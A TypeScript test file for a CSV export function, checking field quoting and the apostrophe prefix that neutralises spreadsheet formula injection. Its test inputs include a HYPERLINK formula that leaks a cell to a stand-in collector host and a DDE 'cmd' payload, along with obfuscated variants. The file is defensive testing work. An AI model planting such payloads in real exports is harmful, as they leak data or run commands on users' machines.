import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvTable } from '../../../lib/exports/csv.ts';
import { parseCsv } from '../../support/parse-csv.ts';

const field = (value: string) => csvTable(['a'], [[value]]).slice('\uFEFFa\r\n'.length, -'\r\n'.length);

it('has a byte order mark, a header, commas and CRLF', () => {
  expect(
    csvTable(
      ['a', 'b'],
      [
        ['x', 1],
        [null, true],
      ],
    ),
  ).toBe('\uFEFFa,b\r\nx,1\r\n,true\r\n');
});

it.each([
  ['a, b', '"a, b"'],
  ['he said "no"', '"he said ""no"""'],
  ['two\nlines', '"two\nlines"'],
  ['two\r\nlines', '"two\r\nlines"'],
  [' spaces ', '" spaces "'],
  ['plain words', 'plain words'],
  ['', ''],
])('%j is written %j', (value, written) => expect(field(value)).toBe(written));

describe('what a spreadsheet would run', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("https://collector.example/?x="&A1,"open")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '\u200B=1+1',
    '\uFEFF=1+1',
    '"=1+1',
    '＝1+1',
    '＠SUM(A1)',
    '\tplain',
    '- a note that begins with a dash',
  ])('%j gets an apostrophe', (value) => {
    expect(parseCsv(csvTable(['a'], [[value]]))[1]).toEqual([`'${value}`]);
  });

  it.each(['-2', '+3.5', '-1,000.5', 'a=b', '2026-04-12', '12 - 14'])('%j is left as it is', (value) => {
    expect(parseCsv(csvTable(['a'], [[value]]))[1]).toEqual([value]);
  });
});

describe('what a spreadsheet would run that parts fields at semicolons', () => {
  it.each([
    ['foo;=1+1', "foo;'=1+1"],
    ['Ann Lee;@SUM(A1)', "Ann Lee;'@SUM(A1)"],
    ['a note\n=1+1', "a note\n'=1+1"],
    ['a\t-2+3', "a\t'-2+3"],
    ['a;"=1+1', 'a;"\'=1+1'],
    ['=1;=1', "'=1;'=1"],
    ['plain;words', 'plain;words'],
    ['harbour; @cite', 'harbour; @cite'],
  ])('%j is written %j', (value, written) => {
    expect(parseCsv(csvTable(['a'], [[value]]))[1]).toEqual([written]);
  });
});

it('any text comes back, but for apostrophes', () => {
  const bare = (text: string | undefined) => text?.replaceAll("'", '');
  fc.assert(
    fc.property(fc.array(fc.tuple(fc.string({ unit: 'grapheme' }), fc.string()), { maxLength: 8 }), (rows) => {
      const back = parseCsv(csvTable(['a', 'b'], rows)).slice(1);
      expect(back.length).toBe(rows.length);
      for (const [at, row] of rows.entries()) {
        for (const [column, value] of row.entries()) expect(bare(back[at]?.[column])).toBe(bare(value));
      }
    }),
  );
});
